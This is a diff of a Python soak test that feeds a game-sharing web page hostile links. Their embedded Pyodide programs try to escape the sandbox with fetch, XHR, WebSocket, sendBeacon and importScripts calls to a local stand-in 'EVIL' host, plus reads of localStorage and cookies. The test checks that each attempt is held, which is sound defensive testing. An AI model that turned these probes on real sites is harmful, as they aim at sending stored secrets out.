@@ -1,9 +1,10 @@
-"""Open hostile links in the site's page for games, in Chromium: python -m tests.soak.opened_links.
+"""Open hostile links in the site's page for games: python -m tests.soak.opened_links [--firefox].
 
-Each link is opened, looked at, and run if the page offers that. Counted as failures: a program that
-runs before the click, a script in the page, a read of what the site stores, a request to any other
-host, and a page that no longer answers. It isn't among the campaigns of ``make soak``'s table, for
-it needs a browser and the site.
+Each link is opened, looked at, and run if the page offers that. Its program says that it ran before
+it attacks, and afterwards what held it, so that the report counts attacks and not links. Counted as
+failures: a program that runs before the click, an attack that succeeds, a script in the page, a
+read of what the site stores, a request to any other host, and a page that no longer answers. It
+isn't among the campaigns of ``make soak``'s table, for it needs a browser and the site.
 """
 
 from __future__ import annotations
@@ -11,13 +12,20 @@ from __future__ import annotations
 import argparse
 import base64
 import json
+import re
+import subprocess
 import threading
 import zlib
+from collections import Counter
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from random import Random
+from tempfile import TemporaryDirectory
+from typing import Any, NamedTuple
 
-from playwright.sync_api import Page, sync_playwright
-from playwright.sync_api import TimeoutError as NoAnswer
+from playwright.sync_api import sync_playwright
 
+from tests.browser.firefox import FIREFOX, FRONTEND
 from tests.browser.make_page import elsewhere
 from tests.soak.injection import CORPUS
 from tests.soak.mutations import mutated_text
@@ -30,19 +38,22 @@ from pyodide.ffi import to_js
 import piecepack_nb as pp
 from piecepack_nb.design import Board
 EVIL = {evil!r}
+class Tried(Exception):
+    pass
+def told(text):
+    js.postMessage(js.JSON.parse(json.dumps({{"kind": "failed", "text": text}})))
 def attack():
     {attack}
-    return "OUT"
-def attempt():
-    try:
-        return attack()
-    except BaseException:
-        return {title!r}
-js.postMessage(js.JSON.parse(json.dumps({{"kind": "failed", "text": "RAN {number}"}})))
+told("RAN {number}.")
+try:
+    attack()
+    told("OUT {number}.")
+except BaseException as error:
+    told("HELD {number} by " + type(error).__name__ + ".")
 @pp.register
 class Game{number}(Board):
     """{doc}"""
-    title = attempt()
+    title = {title!r}
     author = {title!r}
     rulebook = "HO-1 Hostile. " + {title!r}
     places = Board.squares(3, 3)
@@ -52,30 +63,64 @@ class Game{number}(Board):
     def prompt(self, table, picks):
         return {title!r}
 '''
+"""A program: an attack that returns has got out; ``Tried`` leaves that to the other host to say."""
 ATTACKS = (
-    "js.WorkerGlobalScope.prototype.fetch(EVIL).result()", "js.localStorage.getItem('secret')",
-    "js.XMLHttpRequest.new().open('GET', EVIL, False); raise ValueError",
+    "js.WorkerGlobalScope.prototype.fetch.call(js.self, EVIL); raise Tried",
+    "js.fetch(EVIL); raise Tried", "js.localStorage.getItem('secret')",
+    "x = js.XMLHttpRequest.new(); x.open('GET', EVIL, True); x.send(); raise Tried",
     "x = js.XMLHttpRequest.new(); x.open('GET', EVIL, False); x.send()",
     "js.importScripts(EVIL)", "js.eval('1')", "js.Function.new('return 1')()", "js.parent.document",
-    "js.document.cookie", "js.window.open(EVIL)",
+    "js.document.cookie", "js.window.open(EVIL)", "js.indexedDB.open('x'); raise Tried",
     "import urllib.request as u; u.urlopen(EVIL)",
     "import socket; socket.create_connection(EVIL[7:-5].split(':'), 1).send(b'x')",
-    "js.location.assign(EVIL)",
-    "js.location.href = EVIL; raise ValueError", "js.top.document", "js.caches.keys",
-    "js.BroadcastChannel.new('x').postMessage('x'); raise ValueError",
-    "js.self.close(); raise ValueError", "from pyodide.http import open_url; open_url(EVIL)",
-    "js.WebSocket.new(EVIL.replace('http', 'ws')); raise ValueError", "import micropip",
-    "js.Worker.new(EVIL); raise ValueError", "js.navigator.sendBeacon(EVIL)", "raise SystemExit",
-    "js.postMessage(js.JSON.parse('{\"kind\": \"open\", \"state\": null}')); raise ValueError",
-    "js.postMessage(js.JSON.parse('{\"kind\": \"height\", \"value\": 1e9}')); raise OSError",
-    "[js.postMessage(1) for _ in range(2000)]; raise ValueError",
-    "__import__('os')._exit(1)", "del js.self.postMessage; raise ValueError",
+    "js.location.assign(EVIL)", "js.location.href = EVIL; raise Tried", "js.top.document",
+    "js.caches.keys()", "js.BroadcastChannel.new('x').postMessage('x'); raise Tried",
+    "js.self.close(); raise Tried", "from pyodide.http import open_url; open_url(EVIL)",
+    "js.WebSocket.new(EVIL.replace('http', 'ws')); raise Tried",
+    "js.EventSource.new(EVIL); raise Tried", "import micropip; micropip.install(EVIL)",
+    "js.Worker.new(EVIL); raise Tried", "js.navigator.sendBeacon(EVIL)", "raise SystemExit",
+    "js.navigator.serviceWorker.getRegistrations()",
+    "js.navigator.storage.getDirectory(); raise Tried",
+    "js.postMessage(js.JSON.parse('{\"kind\": \"open\", \"state\": null}')); raise Tried",
+    "js.postMessage(js.JSON.parse('{\"kind\": \"height\", \"value\": 1e9}')); raise Tried",
+    "[told('again') for _ in range(2000)]; raise Tried", "__import__('os')._exit(1)",
+    "del js.self.postMessage; raise Tried",
+    "from js import Blob, URL; js.importScripts(URL.createObjectURL(Blob.new(to_js(['1']))))",
 )  # fmt: skip
-STATE = """() => ({
-  said: document.getElementById("status").textContent,
-  shown: !document.getElementById("stranger").hidden,
-  hacked: globalThis.hacked ?? null, secret: localStorage.getItem("secret"),
-})"""
+TRY = """async (link) => {
+  const [status, stranger] = ["status", "stranger"].map((id) => document.getElementById(id));
+  const said = [];
+  const heard = new MutationObserver(() => said.push(status.textContent));
+  heard.observe(status, { childList: true });
+  const pause = (time) => new Promise((done) => setTimeout(done, time));
+  const until = async (holds, patience) => {
+    for (const end = Date.now() + patience; !holds() && Date.now() < end; ) await pause(20);
+    return holds();
+  };
+  history.replaceState(null, "", "#");
+  location.hash = link;
+  await until(() => said.length, 5000);
+  await pause(60);
+  const early = said.splice(0);
+  const shown = !stranger.hidden;
+  if (shown) document.getElementById("stranger-run").click();
+  const token = /(RAN|OUT|HELD) [0-9]+/;
+  const isOver = () => said.some((each) => each && !token.test(each));
+  const answered = !shown || (await until(isOver, 40000));
+  await pause(60);
+  heard.disconnect();
+  const [hacked, secret] = [globalThis.hacked ?? null, localStorage.getItem("secret")];
+  return { early, said, shown, answered, pathname: location.pathname, hacked, secret };
+}"""
+"""Opens a link and runs it; returns all that the page said before and after the click."""
+
+
+class Hostile(NamedTuple):
+    """A hostile link, and the attack of its program."""
+
+    number: int
+    link: str
+    attack: str
 
 
 def packed(kind: str, content: object, version: int = 1) -> str:
@@ -85,13 +130,15 @@ def packed(kind: str, content: object, version: int = 1) -> str:
     return f"#{kind}{version}.{base64.urlsafe_b64encode(raw).decode().rstrip('=')}"
 
 
-def hostile(number: int, evil: str, random: Random) -> str:
-    """Return a hostile link; one of six is no program at all."""
-    values = {"evil": evil, "number": number, "attack": random.choice(ATTACKS)}
-    title = random.choice(CORPUS)
+def hostile(number: int, evil: str, random: Random) -> Hostile:
+    """Return a hostile link; in one of three the program is damaged, or none at all."""
+    attack, title = random.choice(ATTACKS), random.choice(CORPUS)
     doc = "".join(each for each in title if each not in '"\\\x00')
-    program = BODY.format(**values, title=title, doc=doc)
-    kind = random.randrange(12)
+    program = BODY.format(evil=evil, number=number, attack=attack, title=title, doc=doc)
+    return Hostile(number, _link(random.randrange(12), program, title, random), attack)
+
+
+def _link(kind: int, program: str, title: str, random: Random) -> str:
     if kind == 0:
         return mutated_text(packed("game", {"program": program}), random)
     if kind == 1:
@@ -107,27 +154,57 @@ def hostile(number: int, evil: str, random: Random) -> str:
     return packed("game", {"program": program})
 
 
-def try_link(page: Page, link: str, number: int) -> str:
-    """Open and run a link; return how it ended: refused, run, failed in Python; or raise."""
-    page.evaluate("(link) => { location.hash = ''; location.hash = link }", link)
-    page.wait_for_timeout(60)
-    before = page.evaluate(STATE)
-    if f"RAN {number}" in before["said"]:
-        raise AssertionError("it ran before the click")
-    if not before["shown"]:
-        return "refused"
-    page.click("#stranger-run", timeout=5000)
-    page.wait_for_function(
-        "(was) => ![was, ''].includes(document.getElementById('status').textContent)",
-        arg=before["said"],
-        timeout=30_000,
-    )
-    page.wait_for_timeout(30)
-    after = page.evaluate(STATE)
-    if after["hacked"] is not None or after["secret"] != "x" or "OUT" in after["said"]:
-        raise AssertionError(f"it got out: {after}")
-    ran = f"RAN {number}" in after["said"] or "is on the table" in after["said"]
-    return "run" if ran else "failed in Python"
+def outcome(number: int, found: dict[str, Any]) -> str:
+    """Return how a link ended; raise AssertionError if something of it got out."""
+    said = " ".join(found["said"])
+    assert "RAN" not in " ".join(found["early"]), f"it ran before the click: {found['early']}"
+    assert f"OUT {number}." not in said, f"it got out: {said}"
+    assert found["hacked"] is None, "its script ran in the page"
+    assert found["secret"] == "x", f"what the site stores is {found['secret']!r}"
+    assert found["pathname"].endswith("/make/"), f"the page went to {found['pathname']}"
+    assert found["answered"], f"the page no longer answers: {said}"
+    if not found["shown"]:
+        return "refused by the page"
+    if f"RAN {number}." not in said:
+        return "refused by Python"
+    held = re.search(rf"HELD {number} by (\w+)", said)
+    return f"attacked, held by {held[1]}" if held else "attacked, and its Python was ended"
+
+
+# --- browsers ------------------------------------------------------------------------------------
+
+Evaluate = Callable[[str, object], Any]
+"""Runs a function of JavaScript with a value in the page, and returns its result."""
+
+
+@contextmanager
+def chromium(address: str) -> Iterator[Evaluate]:
+    """Open the page in Chromium."""
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=find(*SHELLS), args=["--no-sandbox"])
+        page = browser.new_page()
+        page.goto(address)
+        yield page.evaluate
+        browser.close()
+
+
+@contextmanager
+def firefox(address: str) -> Iterator[Evaluate]:
+    """Open the page in Firefox."""
+    with TemporaryDirectory(ignore_cleanup_errors=True) as home:
+        command = ["node", "browsers/firefox_page.mjs", str(FIREFOX), address, home]
+        pipe = subprocess.PIPE
+        with subprocess.Popen(command, cwd=FRONTEND, stdin=pipe, stdout=pipe, text=True) as node:
+            asks, answers = node.stdin, node.stdout
+            assert asks is not None
+            assert answers is not None
+
+            def evaluate(code: str, given: object) -> Any:
+                print(json.dumps([code, given]), file=asks, flush=True)
+                return json.loads(answers.readline())
+
+            yield evaluate
+            asks.close()
 
 
 def main() -> int:
@@ -135,31 +212,31 @@ def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
     parser.add_argument("--size", type=int, default=1000)
     parser.add_argument("--seed", type=int, default=0)
+    parser.add_argument("--firefox", action="store_true", help="in Firefox instead of Chromium")
     given = parser.parse_args()
-    counts: dict[str, int] = {}
     random, wrong = Random(given.seed), list[str]()
-    with site.server() as serving, elsewhere() as (evil, asked), sync_playwright() as playwright:
+    ends, attacks = Counter[str](), Counter[str]()
+    opened = firefox if given.firefox else chromium
+    with site.server() as serving, elsewhere() as (evil, asked):
         threading.Thread(target=serving.serve_forever, daemon=True).start()
-        browser = playwright.chromium.launch(executable_path=find(*SHELLS), args=["--no-sandbox"])
-        page = browser.new_page()
-        page.goto(f"http://127.0.0.1:{serving.server_address[1]}/make/#x")
-        page.evaluate("localStorage.setItem('secret', 'x')")
-        for number in range(given.size):
-            link = hostile(number, evil, random)
-            try:
-                ended = try_link(page, link, number)
-            except (AssertionError, NoAnswer) as error:
-                ended = "wrong"
-                wrong.append(f"link {number}: {str(error)[:200]} {link[:80]}")
-                page.click("#stop")
-            counts[ended] = counts.get(ended, 0) + 1
-            if number % 50 == 49:
-                print(f"{number + 1} links: {counts}", flush=True)
-            if asked:
-                wrong.append(f"link {number}: another host was asked {asked.pop()}")
-        browser.close()
+        with opened(f"http://127.0.0.1:{serving.server_address[1]}/make/#x") as evaluate:
+            evaluate("(value) => localStorage.setItem('secret', value)", "x")
+            for number in range(given.size):
+                each = hostile(number, evil, random)
+                try:
+                    ended = outcome(number, evaluate(TRY, each.link))
+                    assert not asked, f"another host was asked {asked.pop()}"
+                except AssertionError as error:
+                    ended = "wrong"
+                    wrong.append(f"link {number}: {str(error)[:300]}: {each.attack}")
+                ends[ended] += 1
+                attacks[each.attack] += ended.startswith("attacked")
+                if number % 50 == 49:
+                    print(f"{number + 1} links: {dict(ends)}", flush=True)
         serving.shutdown()
-    print(f"{given.size} links: {counts}", *wrong[:10], sep="\n")
+    print(f"{attacks.total()} attacks of {given.size} links ran: {dict(ends.most_common())}")
+    print(*(f"{count:4} {attack}" for attack, count in attacks.most_common()), sep="\n")
+    print(*wrong[:10], sep="\n")
     return int(bool(wrong))
 
 
